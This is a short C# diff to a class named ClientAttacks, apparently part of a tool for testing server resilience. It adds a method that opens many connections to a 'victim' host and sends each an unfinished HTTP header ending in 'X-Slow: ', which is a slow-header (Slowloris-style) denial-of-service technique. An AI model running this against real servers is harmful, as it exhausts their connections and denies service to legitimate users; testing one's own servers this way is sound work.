@@ -201,6 +201,10 @@ internal sealed class ClientAttacks(Service service)
         return (string.Create(CultureInfo.InvariantCulture, $"{made} connections, each reset"), "", null);
     }
 
+    /// <summary>Connections to the victim's host that wait with half a head until they are disposed.</summary>
+    public static async Task<IDisposable> Waiting(Service service, int number, CancellationToken cancel) =>
+        await Many.Open(new ClientAttacks(service), number, Encoding.Latin1.GetBytes($"GET / HTTP/1.1\r\nHost: {service.Cast.Victim.Host}\r\nX-Slow: "), cancel);
+
     /// <summary>Null when the server does not take it within two seconds.</summary>
     private async Task<Socket?> Connect(CancellationToken cancel)
     {
